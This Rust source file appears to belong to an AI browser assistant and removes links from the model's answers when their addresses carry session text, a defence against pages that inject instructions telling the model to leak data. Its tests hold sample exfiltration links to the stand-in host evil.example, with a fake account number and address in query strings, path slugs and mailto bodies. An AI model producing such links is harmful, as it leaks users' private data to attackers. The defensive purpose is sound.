//! Links in an answer that would carry the session away: the model writes the answer, and a
//! page can tell it what to write, e.g. a link whose address holds the page's or the
//! conversation's text. Before an answer is given, every address in it (a Markdown link's,
//! an autolink, a bare URL) is decoded (percent-escapes, `+`) and measured against the
//! session's text ([`crate::page::copied`]): one whose query and fragment hold more than
//! [`MAX_COPIED_CHARS`] characters of it (in runs of [`MIN_RUN_CHARS`] or more, so chunks in
//! separate parameters add up), or whose path holds a run of more than
//! [`MAX_PATH_RUN_CHARS`], is replaced by its text and a note. Addresses the session already
//! has (the page's, its sources') are left alone. The extension's renderer checks the links
//! it shows again (`extension/links.js`). Pure.

use crate::page::copied::{copied_chars, fold, longest_copied};

/// Most characters of session text an address's query and fragment may hold.
pub const MAX_COPIED_CHARS: usize = 40;
/// Shortest run that counts as copied.
pub const MIN_RUN_CHARS: usize = 20;
/// Longest run of session text a path may hold (slugs repeat titles: a higher bar).
pub const MAX_PATH_RUN_CHARS: usize = 80;

/// The schemes whose addresses are links the renderer shows.
const SCHEMES: [&str; 3] = ["https://", "http://", "mailto:"];

/// `answer` with every link that carries session text replaced by its text and a note, and
/// the hosts of the links removed. `known`: the session's text (page, selection, questions,
/// answers, tool results); `own`: addresses the session has (left alone).
pub fn disarm(answer: &str, known: &[&str], own: &[&str]) -> (String, Vec<String>) {
    let urls = find_urls(answer);
    if urls.is_empty() {
        return (answer.to_string(), Vec::new());
    }
    // Addresses in the known text are not its text (an earlier answer's link, a result's).
    let known: Vec<String> = known.iter().map(|t| fold(&without_urls(t))).collect();
    let mut out = String::with_capacity(answer.len());
    let mut removed = Vec::new();
    let mut at = 0;
    for (start, end) in urls {
        if start < at {
            continue;
        }
        let url = &answer[start..end];
        if own.iter().any(|o| o.trim() == url) || !carries(url, &known) {
            continue;
        }
        let host = destination(url);
        let note = format!("(link to {host} removed: it carried text from this session)");
        match markdown_link(answer, start, end) {
            Some((link_start, link_end, text)) if link_start >= at => {
                out.push_str(&answer[at..link_start]);
                out.push_str(text);
                out.push(' ');
                out.push_str(&note);
                at = link_end;
            }
            _ => {
                // A bare URL or an autolink (`<…>`): the address goes, the note stays.
                let (from, to) = match (
                    answer[..start].ends_with('<'),
                    answer[end..].starts_with('>'),
                ) {
                    (true, true) => (start - 1, end + 1),
                    _ => (start, end),
                };
                out.push_str(&answer[at..from]);
                out.push_str(&note);
                at = to;
            }
        }
        removed.push(host);
    }
    out.push_str(&answer[at..]);
    (out, removed)
}

/// Where `url` goes, for the note: its host, or a mail address.
fn destination(url: &str) -> String {
    if url
        .get(..7)
        .is_some_and(|s| s.eq_ignore_ascii_case("mailto:"))
    {
        let address = url[7..].split(['?', '#']).next().unwrap_or_default();
        return decoded(address);
    }
    crate::url::parse(url)
        .map(|u| u.host)
        .filter(|h| !h.is_empty())
        .unwrap_or_else(|| "another site".into())
}

/// Whether `url` carries session text: decoded, its query and fragment hold more than
/// [`MAX_COPIED_CHARS`] of it in runs of [`MIN_RUN_CHARS`], or its path a run of more than
/// [`MAX_PATH_RUN_CHARS`].
fn carries(url: &str, known: &[String]) -> bool {
    let decoded = decoded(url);
    let after_scheme = decoded
        .split_once(':')
        .map_or(decoded.as_str(), |(_, rest)| rest);
    let tail_at = after_scheme.find(['?', '#']).unwrap_or(after_scheme.len());
    let (path, tail) = after_scheme.split_at(tail_at);
    copied_chars(&fold(tail), known, MIN_RUN_CHARS) > MAX_COPIED_CHARS
        || longest_copied(&fold(path), known, MAX_PATH_RUN_CHARS + 1) > MAX_PATH_RUN_CHARS
}

/// `url` with its percent-escapes decoded (up to three times: an escape may be escaped) and
/// `+` read as a space.
fn decoded(url: &str) -> String {
    let mut text = url.replace('+', " ");
    for _ in 0..3 {
        let next = percent_decoded(&text);
        if next == text {
            break;
        }
        text = next;
    }
    text
}

fn percent_decoded(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = |b: u8| char::from(b).to_digit(16);
        match (
            bytes[i],
            bytes.get(i + 1).copied().and_then(hex),
            bytes.get(i + 2).copied().and_then(hex),
        ) {
            (b'%', Some(high), Some(low)) => {
                out.push((high * 16 + low) as u8);
                i += 3;
            }
            (b, _, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// `text` with its addresses cut out.
fn without_urls(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for (start, end) in find_urls(text) {
        out.push_str(&text[at..start]);
        out.push(' ');
        at = end;
    }
    out.push_str(&text[at..]);
    out
}

/// The byte ranges of the addresses in `text`: from a scheme (any case) to the first white
/// space, `<`, `>` or quote, or a `)` that closes nothing opened in the address.
fn find_urls(text: &str) -> Vec<(usize, usize)> {
    let lower = text.to_ascii_lowercase();
    let mut urls = Vec::new();
    let mut from = 0;
    while let Some((start, scheme)) = SCHEMES
        .iter()
        .filter_map(|s| lower[from..].find(s).map(|i| (from + i, s.len())))
        .min()
    {
        let mut depth = 0usize;
        let mut end = start + scheme;
        for (i, c) in text[start + scheme..].char_indices() {
            let stop = match c {
                '(' => {
                    depth += 1;
                    false
                }
                ')' if depth == 0 => true,
                ')' => {
                    depth -= 1;
                    false
                }
                c => c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | '`'),
            };
            if stop {
                break;
            }
            end = start + scheme + i + c.len_utf8();
        }
        if end > start + scheme {
            urls.push((start, end));
        }
        from = end.max(start + scheme);
    }
    urls
}

/// The Markdown link `[text](url …)` whose destination is `text[start..end]`: its byte range
/// and its text, when the address is one.
fn markdown_link(text: &str, start: usize, end: usize) -> Option<(usize, usize, &str)> {
    let before = text[..start].strip_suffix("](")?;
    // The link text's opening bracket: the last `[` that its brackets balance.
    let mut depth = 0usize;
    let mut open = None;
    for (i, c) in before.char_indices().rev() {
        match c {
            ']' => depth += 1,
            '[' if depth == 0 => {
                open = Some(i);
                break;
            }
            '[' => depth -= 1,
            _ => {}
        }
    }
    let open = open?;
    // The destination ends at the `)` after the address (and a title, if any).
    let close = text[end..].find(')').map(|i| end + i + 1)?;
    Some((open, close, &before[open + 1..]))
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAGE: &str = "Account holder: Jane Doe. The user's account number is 1234 5678 9012 and the sort code is 40-11-22. Her address is 12 Harbour Lane, Portree.";

    fn disarmed(answer: &str) -> (String, Vec<String>) {
        disarm(
            answer,
            &[PAGE, "What is my account number?"],
            &["https://bank.example/statement?id=7"],
        )
    }

    #[test]
    fn a_link_whose_query_holds_page_text_becomes_text_with_a_note() {
        let (text, removed) = disarmed("See [your statement](https://evil.example/c?d=The%20user%27s%20account%20number%20is%201234%205678%209012) now.");
        assert_eq!(text, "See your statement (link to evil.example removed: it carried text from this session) now.");
        assert_eq!(removed, ["evil.example"]);
    }

    #[test]
    fn chunks_in_separate_parameters_add_up() {
        let url = "https://evil.example/?a=account+number+is+1234&b=5678+9012+and+the+sort&c=code+is+40-11-22";
        let (text, removed) = disarmed(&format!("Read more: {url}"));
        assert!(!text.contains("evil.example/?"), "{text}");
        assert_eq!(removed, ["evil.example"]);
        // Autolinks go whole, brackets included.
        let (text, _) = disarmed(&format!("Read more: <{url}>."));
        assert_eq!(
            text,
            "Read more: (link to evil.example removed: it carried text from this session)."
        );
    }

    #[test]
    fn ordinary_links_stay() {
        for answer in [
            "See [the bank](https://bank.example/help?topic=sort-codes).",
            "The statement: https://bank.example/statement?id=7",
            "Harbour Lane: https://maps.example/?q=12+Harbour+Lane+Portree",
            "[Wikipedia](https://en.wikipedia.org/wiki/Sort_code_(banking))",
            "Mail [us](mailto:help@bank.example?subject=Question)",
        ] {
            let (text, removed) = disarmed(answer);
            assert_eq!(text, answer);
            assert!(removed.is_empty());
        }
    }

    #[test]
    fn a_path_needs_a_longer_run_and_mail_bodies_count() {
        let slug = "https://evil.example/account-holder-jane-doe-the-user-s-account-number-is-1234-5678-9012-and-the-sort-code";
        assert_eq!(disarmed(&format!("[x]({slug})")).1, ["evil.example"]);
        let mail = "mailto:drop@evil.example?body=Her%20address%20is%2012%20Harbour%20Lane%2C%20Portree.%20Account%20holder%3A%20Jane%20Doe";
        assert_eq!(
            disarmed(&format!("[write]({mail})")).1,
            ["drop@evil.example"]
        );
    }
}
